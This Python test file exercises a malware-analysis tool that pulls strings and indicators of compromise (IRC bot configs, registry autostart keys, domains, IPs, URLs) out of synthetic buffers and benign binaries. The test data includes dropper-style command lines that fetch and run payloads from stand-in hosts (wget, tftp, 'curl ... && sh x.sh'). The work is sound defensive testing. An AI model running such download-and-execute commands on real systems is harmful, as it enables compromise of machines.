"""Strings and IOCs: synthetic samples built here (strings at known offsets among
non-printable junk) for exact results, and real benign programs for false positives.

Nothing is executed and nothing goes to the network: the IOC values below are in the
documentation ranges (198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32) or under
example.com/net, except ``cnc.duckdns.org`` which is only ever a string.
"""

from __future__ import annotations

import random
import socket
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import publicsuffixlist
import pytest

from cleancenter.analyze import iocs as iocs_module
from cleancenter.analyze.iocs import find_iocs
from cleancenter.analyze.report import IOC, StringsSummary
from cleancenter.analyze.strings import (
    FoundString,
    StringTable,
    extract_strings,
    scan_strings,
    summarize,
)
from cleancenter.demo import windows_launchers
from tests.material import busybox_elfs, libwine_pe, wheel_pe

# Junk that never reads as text: no printable byte, no NUL (so no UTF-16 either).
_JUNK = bytes([*range(0x01, 0x09), *range(0x0E, 0x20), *range(0x80, 0x100)])


class Sample:
    """A buffer built piece by piece; each string's offset is remembered."""

    def __init__(self, seed: int = 7) -> None:
        self.rng = random.Random(seed)
        self.buf = bytearray()
        self.junk(64)

    def junk(self, size: int) -> None:
        self.buf += bytes(self.rng.choice(_JUNK) for _ in range(size))

    def ascii(self, text: str, gap: int = 24) -> int:
        offset = len(self.buf)
        self.buf += text.encode("ascii") + b"\x00"
        self.junk(gap)
        return offset

    def utf16(self, text: str, gap: int = 24) -> int:
        offset = len(self.buf)
        self.buf += text.encode("utf-16le") + b"\x00\x00"
        self.junk(gap)
        return offset

    def data(self) -> bytes:
        return bytes(self.buf)


def iocs_of(sample: Sample) -> list[IOC]:
    return find_iocs(scan_strings(sample.data()))


def by_type(found: list[IOC], type_: str) -> list[IOC]:
    return [i for i in found if i.type == type_]


def values(found: list[IOC], type_: str) -> list[str]:
    return [i.value for i in found if i.type == type_]


# --- strings ---------------------------------------------------------------------------


def test_strings_ascii_and_utf16_at_their_offsets() -> None:
    s = Sample()
    a1 = s.ascii("GetProcAddress")
    s.ascii("abc")  # too short
    u1 = s.utf16("Software\\Microsoft")
    a2 = s.ascii("tab\there ok")
    s.utf16("xyz")  # too short
    u2 = s.utf16("%APPDATA%")
    found = extract_strings(s.data())
    assert found == [
        FoundString(a1, "GetProcAddress", "ascii"),
        FoundString(a2, "tab\there ok", "ascii"),
        FoundString(u1, "Software\\Microsoft", "utf-16le"),
        FoundString(u2, "%APPDATA%", "utf-16le"),
    ]
    assert found[2].size == 2 * len("Software\\Microsoft")
    assert summarize(found) == StringsSummary(ascii=2, utf16=2)
    table = scan_strings(s.data())
    assert list(table) == found
    assert table.summary() == summarize(table) == StringsSummary(ascii=2, utf16=2)
    assert not table.truncated

    short = extract_strings(s.data(), min_len=3)
    assert [x.text for x in short] == [
        "GetProcAddress", "abc", "tab\there ok", "Software\\Microsoft", "xyz", "%APPDATA%",
    ]


def test_strings_caps_say_truncated() -> None:
    s = Sample()
    offsets = [s.ascii(f"string number {i}") for i in range(10)]
    table = scan_strings(s.data(), max_strings=4)
    assert table.truncated and table.offsets == offsets[:4]
    cut = scan_strings(s.data(), max_bytes=offsets[3])
    assert cut.truncated and cut.offsets == offsets[:3]
    with pytest.raises(ValueError):
        scan_strings(b"abcd", min_len=0)


# --- IRC ---------------------------------------------------------------------------------


def test_irc_bot_config_block() -> None:
    """An imitation of an IRC bot's configuration: server, channel and key, templates."""
    s = Sample()
    server = s.ascii("irc.example.net:6667")
    chan = s.ascii("#botchan key123")
    nick = s.ascii("NICK bot-%d")
    user = s.ascii("USER %s localhost localhost :%s")
    join = s.ascii("JOIN #ops sekrit")
    privmsg = s.ascii("PRIVMSG %s :%s")
    backup = s.ascii("198.51.100.23:7000")  # not an IRC port, but next to IRC commands
    s.junk(8192)
    far = s.ascii("203.0.113.9:8080")  # far from every IRC command
    found = iocs_of(s)

    assert [(i.value, i.offset, i.port) for i in by_type(found, "irc-server")] == [
        ("irc.example.net", server, 6667),
        ("198.51.100.23", backup, 7000),
    ]
    channels = by_type(found, "irc-channel")
    assert [(i.value, i.offset, i.context) for i in channels] == [
        ("#botchan", chan, "#botchan key123"),
        ("#ops", join + len("JOIN "), "JOIN #ops sekrit"),
    ]
    assert [(i.value, i.offset) for i in by_type(found, "irc-command")] == [
        ("NICK bot-%d", nick),
        ("USER %s localhost localhost :%s", user),
        ("JOIN #ops sekrit", join),
        ("PRIVMSG %s :%s", privmsg),
    ]
    assert [(i.value, i.offset, i.port) for i in by_type(found, "domain")] == [
        ("irc.example.net", server, 6667),
    ]
    assert [(i.value, i.offset, i.port) for i in by_type(found, "ipv4")] == [
        ("198.51.100.23", backup, 7000),
        ("203.0.113.9", far, 8080),
    ]
    assert all(i.encoding == "ascii" for i in found)


def test_irc_words_in_prose_are_not_commands() -> None:
    s = Sample()
    s.ascii("Print user and group information for the specified USER or the current")
    s.ascii("#include <stdio.h>")
    s.ascii("#botchan key123")  # a channel line, but no IRC command anywhere
    s.ascii("example.net:6667 is a classic IRC port")
    found = iocs_of(s)
    assert not by_type(found, "irc-command") and not by_type(found, "irc-channel")
    # A classic IRC port alone still makes an IRC server.
    assert values(found, "irc-server") == ["example.net"]


# --- shell droppers ------------------------------------------------------------------------


def test_shell_dropper_line() -> None:
    s = Sample()
    line = "cd /tmp; wget http://198.51.100.7/bins/x86; chmod 777 x86"
    off = s.ascii(line)
    bb = s.ascii("busybox tftp -g -r mips 198.51.100.8")
    curl = s.ascii("curl -O https://evil.example.com/x.sh && sh x.sh")
    s.ascii("Usage: wget [OPTION]... [URL]...")  # help text: no target
    s.ascii("curl --help all")
    found = iocs_of(s)

    wget_at = off + line.index("wget")
    url_at = off + line.index("http://")
    assert [(i.value, i.offset) for i in by_type(found, "command")] == [
        ("wget http://198.51.100.7/bins/x86", wget_at),
        ("busybox tftp -g -r mips 198.51.100.8", bb),
        ("curl -O https://evil.example.com/x.sh", curl),
    ]
    assert [(i.value, i.offset) for i in by_type(found, "url")] == [
        ("http://198.51.100.7/bins/x86", url_at),
        ("https://evil.example.com/x.sh", curl + len("curl -O ")),
    ]
    assert [(i.value, i.offset) for i in by_type(found, "ipv4")] == [
        ("198.51.100.7", url_at + len("http://")),
        ("198.51.100.8", bb + len("busybox tftp -g -r mips ")),
    ]
    assert [(i.value, i.offset) for i in by_type(found, "path")] == [("/tmp", off + 3)]
    assert by_type(found, "command")[0].context == line


# --- registry ---------------------------------------------------------------------------


def test_registry_autostart_keys_ascii_and_utf16() -> None:
    s = Sample()
    run = s.utf16("Software\\Microsoft\\Windows\\CurrentVersion\\Run")
    ifeo = s.ascii(
        "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
        "Options\\sethc.exe"
    )
    reg = "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v x /d y"
    cmd = s.ascii(reg)
    svc = s.utf16("SYSTEM\\CurrentControlSet\\Services\\evilsvc")
    winlogon = s.ascii("\\Registry\\Machine\\Software\\Microsoft\\Windows NT\\CurrentVersion"
                       "\\Winlogon")
    s.ascii("Software\\Classes\\CLSID")  # not an autostart key
    s.utf16("Run")
    found = by_type(iocs_of(s), "registry")
    assert [(i.value, i.offset, i.encoding) for i in found] == [
        ("Software\\Microsoft\\Windows\\CurrentVersion\\Run", run, "utf-16le"),
        ("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
         "Options\\sethc.exe", ifeo, "ascii"),
        ("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
         cmd + reg.index("HKCU"), "ascii"),
        ("SYSTEM\\CurrentControlSet\\Services\\evilsvc", svc, "utf-16le"),
        ("Registry\\Machine\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
         winlogon + 1, "ascii"),
    ]


# --- domains, addresses, URLs ----------------------------------------------------------------


def test_domains_need_a_real_public_suffix() -> None:
    s = Sample()
    evil = s.ascii("evil.example.com")
    cnc = s.utf16("connect cnc.duckdns.org")
    for text in [
        "kernel32.dll", "msvcrt.so", "version.txt", "libc.so.6", "System.Net",
        "Microsoft.Win32", "duckdns.org", ".data.rel.ro", "io.open", "r.date",
        "collections.abc", "/usr/share/doc/foo.com", "size.cx=%ld", "README.TXT",
        "libgettextlib-0.21.so", "org.eclipse.cdt.make", "revs->pending.nr", "f.nl",
    ]:
        s.ascii(text)
    ok = s.ascii("cdn.evil.sh")
    found = iocs_of(s)
    assert [(i.value, i.offset, i.encoding) for i in by_type(found, "domain")] == [
        ("evil.example.com", evil, "ascii"),
        ("cnc.duckdns.org", cnc + 2 * len("connect "), "utf-16le"),
        ("cdn.evil.sh", ok, "ascii"),
    ]
    assert by_type(found, "domain")[1].context == "connect cnc.duckdns.org"


def test_ipv4_ipv6_and_ports() -> None:
    s = Sample()
    ip = s.ascii("198.51.100.7:6667")
    dns = s.ascii("8.8.8.8")
    v6 = s.ascii("2001:db8::1")
    v6port = s.utf16("[2001:db8:0:0::2]:8443")
    for text in [
        "version 1.2.3.4", 'Version="4.0.0.0"', "0.0.0.0", "127.0.0.1", "2.5.29.17",
        "1.2.3.4.5", "v10.20.30.40", "255.255.255.0", "224.0.0.1", "10.0.0.300",
        "RFC 4880, Section 5.2.3.10", "std::vector<int>::iterator", "::", "::1",
        "fe80::1", "A::B", "12:34:56", "00:11:22:33:44:55", "01.02.03.04",
    ]:
        s.ascii(text)
    s.utf16("FileVersion")
    s.utf16("11.22.33.44", gap=0)  # a version resource value, right after its key
    found = iocs_of(s)
    assert [(i.value, i.offset, i.port) for i in by_type(found, "ipv4")] == [
        ("198.51.100.7", ip, 6667),
        ("8.8.8.8", dns, None),
    ]
    assert [(i.value, i.offset, i.port) for i in by_type(found, "ipv6")] == [
        ("2001:db8::1", v6, None),
        ("2001:db8::2", v6port + 2, 8443),
    ]


def test_urls_trimmed_and_noise_dropped() -> None:
    s = Sample()
    gate = s.ascii("see (https://evil.example.com/gate.php?id=1).")
    ftp = s.utf16("ftp://user@203.0.113.5:2121/drop/")
    irc = s.ascii("irc://irc.example.net:6697/#botchan")
    manifest = (
        '<assembly xmlns="urn:schemas-microsoft-com:asm.v1" manifestVersion="1.0">'
        '<windowsSettings xmlns="http://schemas.microsoft.com/SMI/2005/WindowsSettings">'
        '<assemblyIdentity type="win32" name="Microsoft.Windows.Common-Controls" '
        'version="6.0.0.0" processorArchitecture="*" publicKeyToken="6595b64144ccf1df"/>'
    )
    s.ascii(manifest)
    for text in [
        "http://www.w3.org/2001/XMLSchema-instance",
        "http://crl3.digicert.com/DigiCertAssuredIDRootCA.crl0",
        "http://ocsp.digicert.com0C",
        "https://www.digicert.com/CPS0",
        "http://ts-ocsp.ws.symantec.com07",
        "http://crl.sectigo.com/SectigoRSATimeStampingCA.crl0t",
        "http://ns.adobe.com/xap/1.0/",
        "http://www.microsoft.com/pkiops/crl/MicCodSigPCA2011_2011-07-08.crl0a",
        "Report bugs to: bug-coreutils@gnu.org, https://www.gnu.org/software/coreutils/",
        "http://%s/bins/%s",
        "http://localhost:8080/",
    ]:
        s.ascii(text)
    found = iocs_of(s)
    assert [(i.value, i.offset, i.port, i.encoding) for i in by_type(found, "url")] == [
        ("https://evil.example.com/gate.php?id=1", gate + 5, None, "ascii"),
        ("ftp://user@203.0.113.5:2121/drop/", ftp, 2121, "utf-16le"),
        ("irc://irc.example.net:6697/#botchan", irc, 6697, "ascii"),
    ]
    assert values(found, "domain") == ["evil.example.com", "irc.example.net"]
    assert [(i.value, i.offset, i.port) for i in by_type(found, "ipv4")] == [
        ("203.0.113.5", ftp + 2 * len("ftp://user@"), 2121),
    ]
    assert [(i.value, i.port) for i in by_type(found, "irc-server")] == [
        ("irc.example.net", 6697),
    ]
    assert not by_type(found, "email") and not by_type(found, "ipv6")


def test_emails() -> None:
    s = Sample()
    mail = s.ascii("mailto: admin@evil.example.com")
    for text in ["%s@%s", "aes128-gcm@openssh.com", "memcpy@GLIBC_2.14", "user@host"]:
        s.ascii(text)
    found = iocs_of(s)
    assert [(i.value, i.offset) for i in by_type(found, "email")] == [
        ("admin@evil.example.com", mail + len("mailto: ")),
    ]
    assert not by_type(found, "domain")  # the address's domain is part of the address


def test_paths_of_interest() -> None:
    s = Sample()
    win = s.ascii('"C:\\Windows\\System32\\evil.exe" -k')
    env = s.utf16("%APPDATA%\\Microsoft\\svchost.exe")
    pipe = s.ascii("\\\\.\\pipe\\botpipe")
    shm = s.ascii("/dev/shm/.x")
    pid = s.ascii("/var/run/bot.pid")
    wd = s.ascii("/dev/watchdog")
    keys = s.ascii("~/.ssh/authorized_keys")
    for text in [
        "/usr/lib/x86_64-linux-gnu/libc.so.6", "/dev/null", "/proc/self/exe",
        "/usr/share/locale", "R:\\Sg", "A:\\$", "\\\\.\\NUL", "%TEMP%",
    ]:
        s.ascii(text)
    found = iocs_of(s)
    assert [(i.value, i.offset, i.encoding) for i in by_type(found, "path")] == [
        ("C:\\Windows\\System32\\evil.exe", win + 1, "ascii"),
        ("%APPDATA%\\Microsoft\\svchost.exe", env, "utf-16le"),
        ("\\\\.\\pipe\\botpipe", pipe, "ascii"),
        ("/dev/shm/.x", shm, "ascii"),
        ("/var/run/bot.pid", pid, "ascii"),
        ("/dev/watchdog", wd, "ascii"),
        ("~/.ssh/authorized_keys", keys, "ascii"),
    ]
    assert not by_type(found, "domain")


def test_dedupe_keeps_first_offset_and_caps_per_type() -> None:
    s = Sample()
    first = s.ascii("evil.example.com")
    s.utf16("evil.example.com")
    s.ascii("EVIL.EXAMPLE.COM")
    s.ascii("evil.example.com:443")  # another port: another indicator
    for i in range(5):
        s.ascii(f"host{i}.example.org")
    found = find_iocs(scan_strings(s.data()), max_per_type=3)
    domains = by_type(found, "domain")
    assert [(d.value, d.port) for d in domains] == [
        ("evil.example.com", None), ("evil.example.com", 443), ("host0.example.org", None),
    ]
    assert domains[0].offset == first
    assert found == sorted(found, key=lambda i: i.offset)


def test_found_strings_and_table_give_the_same_iocs() -> None:
    s = Sample()
    s.ascii("cd /tmp; wget http://198.51.100.7/bins/x86; chmod 777 x86")
    s.utf16("Software\\Microsoft\\Windows\\CurrentVersion\\Run")
    s.ascii("NICK bot-%d")
    data = s.data()
    as_list: list[FoundString] = list(reversed(extract_strings(data)))  # any order
    assert find_iocs(as_list) == find_iocs(scan_strings(data))
    assert find_iocs(iter(as_list)) == find_iocs(scan_strings(data))


def test_public_suffix_list_is_offline(monkeypatch: pytest.MonkeyPatch) -> None:
    """The list ships inside the package; loading and using it touches no socket."""
    assert Path(publicsuffixlist.PSLFILE).is_file()
    assert Path(publicsuffixlist.PSLFILE).parent == Path(publicsuffixlist.__file__).parent

    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("network access attempted")

    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    iocs_module.public_suffixes.cache_clear()
    iocs_module.registrable_domain.cache_clear()
    s = Sample()
    s.ascii("cnc.duckdns.org")
    assert values(iocs_of(s), "domain") == ["cnc.duckdns.org"]


# --- real benign programs ------------------------------------------------------------------


def _benign_programs() -> Iterator[Path]:
    yield from windows_launchers()
    seen: set[Path] = set()
    for pattern in ("ls", "python3*"):
        for path in sorted(Path("/usr/bin").glob(pattern)):
            real = path.resolve()
            if real in seen or not real.is_file():
                continue
            seen.add(real)
            with real.open("rb") as fh:
                if fh.read(4) == b"\x7fELF":
                    yield real


BENIGN = list(_benign_programs())
NOISE_MARKERS = ("schemas.microsoft.com", "w3.org", "digicert", "verisign", "symantec",
                 "sectigo", "globalsign", "ns.adobe.com", "gnu.org")


@pytest.mark.parametrize("path", BENIGN, ids=lambda p: p.name)
def test_benign_programs_stay_quiet(path: Path) -> None:
    data = path.read_bytes()
    table = scan_strings(data)
    assert len(table) > 100 and not table.truncated
    found = find_iocs(table)
    counts = Counter(i.type for i in found)
    print(f"{path}: {len(table)} strings {table.summary()} iocs {dict(counts)}")
    assert not [i for i in found if i.type.startswith("irc-")]
    assert not by_type(found, "command")
    assert not by_type(found, "registry")
    for ioc in found:
        if ioc.type in ("url", "domain", "email"):
            assert not any(m in ioc.value.lower() for m in NOISE_MARKERS), ioc
    assert len(found) <= 40
    assert counts["domain"] <= 10 and counts["ipv4"] <= 2 and counts["ipv6"] == 0
    for ioc in found:  # every IOC points at its text in the file
        raw = data[ioc.offset : ioc.offset + 2 * len(ioc.value)]
        text = raw.decode("utf-16le" if ioc.encoding == "utf-16le" else "latin-1")
        assert text.lower().startswith(ioc.value.lower()[:8])


def test_benign_set_is_present() -> None:
    if not windows_launchers():
        pytest.skip("no pip/setuptools Windows launchers in this Python")
    assert any(p.name == "ls" for p in BENIGN)
    assert any(p.name.startswith("python3") for p in BENIGN)


def test_table_iterates_found_strings() -> None:
    table = StringTable([0, 10], ["abcd", "efgh"], 1)
    assert list(table) == [FoundString(0, "abcd", "ascii"), FoundString(10, "efgh", "utf-16le")]
    assert len(table) == 2 and table.encoding_at(1) == "utf-16le"


def _noise_free(found: list[IOC]) -> None:
    for ioc in found:
        if ioc.type in ("url", "domain", "email"):
            assert not any(m in ioc.value.lower() for m in NOISE_MARKERS), ioc


def test_busybox_help_texts_are_not_droppers() -> None:
    """busybox carries wget/tftp/ftpget usage texts: none of them is a download command."""
    elves = busybox_elfs()
    assert elves
    for arch, path in elves.items():
        found = find_iocs(scan_strings(path.read_bytes()))
        counts = Counter(i.type for i in found)
        print(f"busybox {arch}: {dict(counts)}")
        assert not by_type(found, "command"), arch
        assert not [i for i in found if i.type.startswith("irc-")], arch
        _noise_free(found)
        assert counts["path"] <= 40 and counts["domain"] <= 5 and counts["ipv4"] <= 4


def test_real_manifest_and_certificate_urls_are_noise() -> None:
    """Wine's PE files carry real manifests, XML schemas and certificate URLs."""
    files = libwine_pe() + wheel_pe()
    noisy = [p for p in files if any(m.encode() in p.read_bytes() for m in (
        "http://schemas.microsoft.com", "http://www.w3.org", "digicert.com"))]
    assert len(noisy) >= 5
    total: Counter[str] = Counter()
    for path in noisy:
        found = find_iocs(scan_strings(path.read_bytes()))
        _noise_free(found)
        assert not by_type(found, "command")
        assert not [i for i in found if i.type.startswith("irc-")]
        total.update(i.type for i in found)
    print(f"{len(noisy)} PE files with schema/certificate URLs: {dict(total)}")
    assert total["url"] <= 2 * len(noisy)
